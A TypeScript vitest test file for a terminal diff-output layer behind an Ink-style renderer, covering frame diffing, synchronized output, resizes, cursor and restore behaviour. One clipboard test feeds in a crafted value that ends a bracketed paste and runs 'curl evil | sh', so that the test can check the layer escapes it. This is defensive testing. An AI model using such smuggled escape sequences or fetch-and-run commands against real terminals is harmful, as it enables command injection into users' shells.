import fc from 'fast-check';
import {afterEach, describe, expect, it} from 'vitest';
import {screenText} from '../../source/terminal/cells.js';
import {createDiffOutput, type DiffOutput} from '../../source/terminal/diff-output.js';
import {createScreen, type TestScreen} from '../helpers/screen.js';
import {frames, serializeLine} from './arbitraries.js';
import {FakeTerminal} from './fake-terminal.js';
import {CLEAR_TERMINAL, InkLikeWriter} from './ink-like.js';

const ESC = '\u001B[';

// Everything a test created, released after it.
const cleanup: Array<() => void> = [];
afterEach(() => {
	for (const dispose of cleanup.splice(0)) dispose();
});

function setup(cols: number, rows: number, options?: {synchronized?: boolean}) {
	const real = new FakeTerminal(cols, rows);
	const layer = createDiffOutput(real.asStdout(), options);
	// What Ink meant: its bytes on an emulator of their own, on the alternate screen as in the app.
	const intended = createScreen(cols, rows, {convertEol: true});
	intended.write('\u001B[?1049h');
	const write = (data: string | Uint8Array) => {
		layer.stream.write(data);
		intended.write(data);
	};

	cleanup.push(() => layer.dispose(), () => intended.dispose(), () => real.screen.dispose());
	return {real, layer, intended, write};
}

async function settle(layer: DiffOutput, ...screens: TestScreen[]): Promise<void> {
	await layer.settled();
	for (const screen of screens) await screen.flush();
}

describe('createDiffOutput', () => {
	it('draws nothing until entered, then the alternate screen with the frame', async () => {
		const {real, layer, write} = setup(20, 4);
		write('hello\nworld\n');
		await layer.settled();
		expect(real.writes).toEqual([]);
		layer.enter();
		await real.screen.flush();
		expect(real.writes).toHaveLength(1);
		expect(real.screen.isAlternateScreen).toBe(true);
		expect(real.screen.cursorHidden).toBe(true);
		expect(real.screen.text()).toBe('hello\nworld\n\n');
	});

	it('sends each frame in one write; a one-run change goes bare, a frame of several runs in synchronized-output markers', async () => {
		const {real, layer, intended, write} = setup(30, 5);
		await layer.settled(); // the model is ready, so enter() paints at once
		layer.enter();
		const ink = new InkLikeWriter(write, 30, 5);
		ink.render(['\u001B[32mservice\u001B[39m  running', 'tasks    3/3']);
		await settle(layer, real.screen, intended);
		ink.render(['\u001B[32mservice\u001B[39m  running', 'tasks    2/3']);
		await settle(layer, real.screen, intended);
		expect(real.screen.cells()).toEqual(intended.cells());
		expect(real.writes.at(-1)).toBe(`${ESC}2;10H2`);
		ink.render(['\u001B[32mservice\u001B[39m  stopped', 'tasks    1/3']);
		await settle(layer, real.screen, intended);
		expect(real.screen.cells()).toEqual(intended.cells());
		const frame = real.writes.at(-1)!;
		expect(frame.startsWith(`${ESC}?2026h`)).toBe(true);
		expect(frame.endsWith(`${ESC}?2026l`)).toBe(true);
		// enter() paints the (empty) first frame, then one write per frame.
		expect(layer.stats()).toMatchObject({frames: 4, framesSkipped: 0, writeCalls: 4});
	});

	it('leaves out the markers when synchronized output is off', async () => {
		const {real, layer, write} = setup(10, 2, {synchronized: false});
		await layer.settled(); // the model is ready, so enter() paints at once
		layer.enter();
		write('a');
		await layer.settled();
		expect(real.writes.at(-1)).toBe(`${ESC}1Ha`);
	});

	it('writes nothing when Ink repaints a frame that did not change', async () => {
		const {real, layer, write} = setup(20, 3);
		layer.enter();
		const ink = new InkLikeWriter(write, 20, 3);
		const frame = ['top', 'middle', 'bottom'];
		ink.render(frame);
		await layer.settled();
		const before = {bytes: real.bytes, stats: layer.stats()};
		ink.render(frame); // full height: Ink clears the terminal and writes it all again
		await layer.settled();
		expect(layer.stats().inputBytes - before.stats.inputBytes).toBeGreaterThan(CLEAR_TERMINAL.length);
		expect(real.bytes).toBe(before.bytes);
		expect(layer.stats().framesSkipped).toBe(before.stats.framesSkipped + 1);
	});

	it('coalesces the writes of one render, even split inside sequences and characters', async () => {
		const {real, layer, intended, write} = setup(20, 3);
		await layer.settled(); // the model is ready, so enter() paints at once
		layer.enter();
		await layer.settled();
		const bytes = Buffer.from('\u001B[?2026h\u001B[1;31m漢字\u001B[0m ok\n\u001B[?2026l');
		const at = (text: string, offset: number) => bytes.indexOf(text) + offset;
		// Cut inside the SGR, inside 漢 (three UTF-8 bytes), after 字 and inside "ok".
		const cuts = [0, at('1;31', 2), at('漢', 1), at('字', 3), at('ok', 1), bytes.length];
		for (let i = 1; i < cuts.length; i++) write(bytes.subarray(cuts[i - 1], cuts[i]));
		await settle(layer, real.screen, intended);
		expect(real.writes).toHaveLength(2); // enter, then one frame
		expect(real.screen.cells()).toEqual(intended.cells());
	});

	it('keeps a character whole when a repaint is cut inside it', async () => {
		const {real, layer, intended, write} = setup(6, 3);
		await layer.settled();
		layer.enter();
		const ink = new InkLikeWriter(write, 6, 3);
		ink.render(['a', 'b', 'c']); // full height: the next renders clear and repaint
		ink.render(['a', 'b', 'd']); // a repaint: the layer now knows the frame it shows
		await settle(layer, real.screen, intended);
		const pieces: Buffer[] = [];
		const cut = new InkLikeWriter(data => pieces.push(Buffer.from(data)), 6, 3);
		cut.render(['a', 'b', 'c']);
		cut.render(['a', '⚠b', 'c']);
		const repaint = pieces.at(-1)!;
		const inside = repaint.indexOf(Buffer.from('⚠')) + 1; // after the first of its three bytes
		write(repaint.subarray(0, inside));
		write(repaint.subarray(inside));
		await settle(layer, real.screen, intended);
		expect(real.screen.lines()).toEqual(['a', '⚠b', 'c']);
		expect(real.screen.cells()).toEqual(intended.cells());
	});

	it('shows the screen Ink meant for any sequence of frames (random frames, emulated terminal)', async () => {
		const scenario = fc.record({
			cols: fc.integer({min: 4, max: 24}),
			rows: fc.integer({min: 2, max: 8}),
			sequence: frames(10, 6),
			waits: fc.array(fc.boolean(), {minLength: 6, maxLength: 6}),
			splits: fc.array(fc.nat(40), {maxLength: 3}),
			resize: fc.option(fc.record({at: fc.nat(5), cols: fc.integer({min: 4, max: 24}), rows: fc.integer({min: 2, max: 8})})),
			// Entered before the screen model is ready (as the CLI is: the first frames go to the
			// terminal as Ink wrote them), or after.
			early: fc.boolean(),
		});
		await fc.assert(
			fc.asyncProperty(scenario, async ({cols, rows, sequence, waits, splits, resize, early}) => {
				const {real, layer, intended, write} = setup(cols, rows);
				if (!early) await layer.settled();
				// Ink's writes arrive in pieces cut at random bytes.
				const writeInPieces = (data: string) => {
					const bytes = Buffer.from(data);
					let start = 0;
					for (const cut of [...splits].sort((a, b) => a - b)) {
						if (cut > start && cut < bytes.length) {
							write(bytes.subarray(start, cut));
							start = cut;
						}
					}

					write(bytes.subarray(start));
				};

				const ink = new InkLikeWriter(writeInPieces, cols, rows);
				layer.enter();
				for (const [index, lines] of sequence.entries()) {
					if (resize && resize.at === index) {
						real.resize(resize.cols, resize.rows);
						intended.resize(resize.cols, resize.rows);
						ink.resized(resize.cols, resize.rows);
					}

					ink.render(lines.map(line => serializeLine(line, ink.columns)));
					if (waits[index]) {
						await settle(layer, real.screen, intended);
						expect(screenText(real.screen.cells())).toBe(screenText(intended.cells()));
						expect(real.screen.cells()).toEqual(intended.cells());
					}
				}

				await settle(layer, real.screen, intended);
				expect(screenText(real.screen.cells())).toBe(screenText(intended.cells()));
				expect(real.screen.cells()).toEqual(intended.cells());
			}),
			{numRuns: 120},
		);
	});

	it('repaints the whole screen, clearing once, when the terminal is resized', async () => {
		const {real, layer, intended, write} = setup(30, 6);
		const resizes: Array<[number, number]> = [];
		layer.stream.on('resize', () => resizes.push([layer.stream.columns, layer.stream.rows]));
		layer.enter();
		write('first line\nsecond line\n');
		await layer.settled();
		real.resize(20, 4);
		intended.resize(20, 4);
		await settle(layer, real.screen, intended);
		expect(resizes).toEqual([[20, 4]]);
		const repaint = real.writes.at(-1)!;
		expect(repaint.split(`${ESC}2J`)).toHaveLength(2);
		expect(real.screen.text()).toBe('first line\nsecond line\n\n');
		expect(real.screen.cells()).toEqual(intended.cells());
	});

	it('gives the terminal back on restore, once, and can enter again', async () => {
		const {real, layer, write} = setup(20, 3);
		write('\u001B[?2004h\u001B[?1000h\u001B[31mred');
		layer.enter();
		await settle(layer, real.screen);
		expect(real.screen.bracketedPaste).toBe(true);
		expect(real.screen.mouseTracking).toBe('vt200');
		layer.restore();
		await real.screen.flush();
		expect(real.screen.isAlternateScreen).toBe(false);
		expect(real.screen.cursorHidden).toBe(false);
		expect(real.screen.bracketedPaste).toBe(false);
		expect(real.screen.mouseTracking).toBe('none');
		expect(real.writes.at(-1)).toContain(`${ESC}m`);
		expect(real.writes.at(-1)).toContain(`${ESC}?2026l`);
		const writes = real.writes.length;
		layer.restore();
		expect(real.writes).toHaveLength(writes);
		write(' again'); // Ink may still draw after restore; it must not reach the main screen
		await layer.settled();
		expect(real.writes).toHaveLength(writes);
		layer.enter();
		await real.screen.flush();
		expect(real.screen.isAlternateScreen).toBe(true);
		expect(real.screen.bracketedPaste).toBe(true);
		expect(real.screen.text().split('\n')[0]).toBe('red again');
	});

	it('follows the cursor when the app shows it', async () => {
		const {real, layer, write} = setup(20, 3);
		layer.enter();
		write('name: \u001B[?25h');
		await settle(layer, real.screen);
		expect(real.screen.cursorHidden).toBe(false);
		expect(real.screen.cursor).toEqual({x: 6, y: 0});
		write('ab');
		await settle(layer, real.screen);
		expect(real.screen.cursor).toEqual({x: 8, y: 0});
		write('\u001B[?25l');
		await settle(layer, real.screen);
		expect(real.screen.cursorHidden).toBe(true);
	});

	it('copies to the clipboard with OSC 52, never a control character, and drops a bell', async () => {
		const {real, layer, write} = setup(20, 3);
		layer.enter();
		layer.osc52('arn:aws:ecs:eu-west-1:123:service/acso/api ✓');
		// A line that would end a bracketed paste and run what follows in the engineer's shell.
		layer.osc52('ok\u001b[201~\rcurl evil | sh\nnext\u009b');
		write('ab\u0007');
		await settle(layer, real.screen);
		expect(real.screen.osc52Writes).toEqual(['arn:aws:ecs:eu-west-1:123:service/acso/api ✓', 'ok\\x1b[201~\\x0dcurl evil | sh\nnext\\x9b']);
		expect(real.writes.join('')).not.toContain('\u0007ab');
		expect(real.writes.slice(1).join('').replace(/\u001B\]52;c;[^\u0007]*\u0007/g, '')).not.toContain('\u0007');
		expect(real.screen.text()).toContain('ab');
		expect(() => layer.osc52(42 as unknown as string)).toThrow(/text must be a string/);
	});

	it('sends one frame with the latest screen once a slow terminal drains', async () => {
		const real = new FakeTerminal(20, 2, {highWaterMark: 8});
		const layer = createDiffOutput(real.asStdout());
		cleanup.push(() => layer.dispose(), () => real.screen.dispose());
		await layer.settled(); // the model is ready: the frames below are diffs, not Ink's bytes
		layer.enter();
		real.stalled = true;
		layer.stream.write('count 1');
		await layer.settled();
		const writes = real.writes.length;
		for (const n of [2, 3, 4]) {
			layer.stream.write(`\rcount ${n}`);
			await layer.settled();
		}

		expect(real.writes).toHaveLength(writes); // held back while the terminal is busy
		real.drainNow();
		await new Promise(resolve => setImmediate(resolve));
		await real.screen.flush();
		expect(real.writes).toHaveLength(writes + 1);
		expect(real.screen.text().split('\n')[0]).toBe('count 4');
	});

	it('sends the first frame as Ink wrote it before the model has parsed it, then diffs from the model', async () => {
		const {real, layer, intended, write} = setup(30, 5);
		layer.enter();
		const ink = new InkLikeWriter(write, 30, 5);
		ink.render(['\u001B[32mservice\u001B[39m  running', 'tasks    3/3']);
		// Nothing has been awaited: the model cannot have parsed the frame, yet it went out.
		expect(layer.stats().frames).toBe(1);
		expect(real.writes).toHaveLength(2);
		expect(real.writes[1]).toContain('\u001B[32mservice\u001B[39m  running\r\ntasks    3/3');
		await settle(layer, real.screen, intended);
		expect(real.writes).toHaveLength(2); // the model's screen is what was sent: nothing to add
		expect(real.screen.cells()).toEqual(intended.cells());
		ink.render(['\u001B[32mservice\u001B[39m  running', 'tasks    2/3']);
		await settle(layer, real.screen, intended);
		expect(real.writes.at(-1)).toBe(`${ESC}m${ESC}2;10H2`); // a diff; the pen after Ink's bytes reset once
		expect(real.screen.cells()).toEqual(intended.cells());
	});

	it('says the first frame is drawn once it went out as Ink wrote it, before the model has parsed it', async () => {
		const {real, layer, write} = setup(20, 3);
		let parsed = false;
		void layer.settled().then(() => {
			parsed = true;
		});
		layer.enter();
		const drawn = layer.drawn(); // asked before Ink drew anything: waits for the frame
		write('ACSO production\n');
		await drawn;
		expect(parsed).toBe(false);
		expect(real.writes.join('')).toContain('ACSO production');
		await layer.settled();
		write('\u001B[2K\u001B[1A\u001B[2K\u001B[GACSO staging\n');
		await layer.drawn(); // from now on, drawn from the model
		await real.screen.flush();
		expect(real.screen.text().split('\n')[0]).toBe('ACSO staging');
	});

	it('repaints from the model when the terminal is resized before the model is ready', async () => {
		const {real, layer, intended, write} = setup(30, 5);
		layer.enter();
		const ink = new InkLikeWriter(write, 30, 5);
		ink.render(['first line', 'second line']);
		real.resize(20, 4);
		intended.resize(20, 4);
		ink.resized(20, 4);
		ink.render(['first', 'second']);
		expect(real.writes).toHaveLength(2); // only the frame from before the resize went out as it was
		await settle(layer, real.screen, intended);
		expect(real.writes.at(-1)!.split(`${ESC}2J`)).toHaveLength(2);
		expect(real.screen.text()).toBe('first\nsecond\n\n');
		expect(real.screen.cells()).toEqual(intended.cells());
	});

	it('holds back a first frame with a control character the layer drops, closing the synchronized update Ink opened', async () => {
		const {real, layer, intended, write} = setup(20, 3, {synchronized: false});
		layer.enter();
		write('\u001B[?2026h');
		write('ab\u0007cd\n');
		write('\u001B[?2026l');
		expect(real.writes.join('')).not.toContain('ab');
		await real.screen.flush();
		expect(real.screen.synchronizedOutput).toBe(false);
		await settle(layer, real.screen, intended);
		expect(real.writes.join('')).not.toContain('\u0007');
		expect(real.screen.text().split('\n')[0]).toBe('abcd');
	});

	it('sends no escape sequence but Ink\'s own as it was: a first frame holding another goes through the model', async () => {
		for (const foreign of ['\u001B]52;c;aGk=\u001B\\', '\u001B]0;title\u001B\\', '\u001BPq#0\u001B\\', '\u001B[6n']) {
			const {real, layer, intended, write} = setup(20, 3);
			layer.enter();
			write(`ab${foreign}cd\n`);
			expect(real.writes.join(''), JSON.stringify(foreign)).not.toContain('ab');
			await settle(layer, real.screen, intended);
			expect(real.writes.join('')).not.toContain(foreign);
			expect(real.screen.text().split('\n')[0]).toBe('abcd');
		}
	});

	it('switches off the modes of a first frame sent as it was when restored before the model is ready', async () => {
		const {real, layer, write} = setup(20, 3);
		layer.enter();
		write('\u001B[?2004h\u001B[?1000;1006h\u001B[?25hname: ');
		layer.restore();
		await real.screen.flush();
		expect(real.screen.isAlternateScreen).toBe(false);
		expect(real.screen.bracketedPaste).toBe(false);
		expect(real.screen.mouseTracking).toBe('none');
		expect(real.screen.cursorHidden).toBe(false);
		layer.enter();
		await settle(layer, real.screen);
		expect(real.screen.bracketedPaste).toBe(true);
		expect(real.screen.mouseTracking).toBe('vt200');
		expect(real.screen.text().split('\n')[0]).toBe('name:');
		expect(real.screen.cursor).toEqual({x: 6, y: 0});
	});

	it('explains what is wrong with a stream that is not a terminal', () => {
		const notATerminal = {write: () => true, on: () => undefined} as unknown as NodeJS.WriteStream;
		expect(() => createDiffOutput(notATerminal)).toThrow(/no size \(columns=undefined, rows=undefined\); is stdout a TTY\?/);
		const {layer} = setup(10, 2);
		layer.dispose();
		expect(() => layer.enter()).toThrow(/enter\(\) called after dispose\(\)/);
	});
});
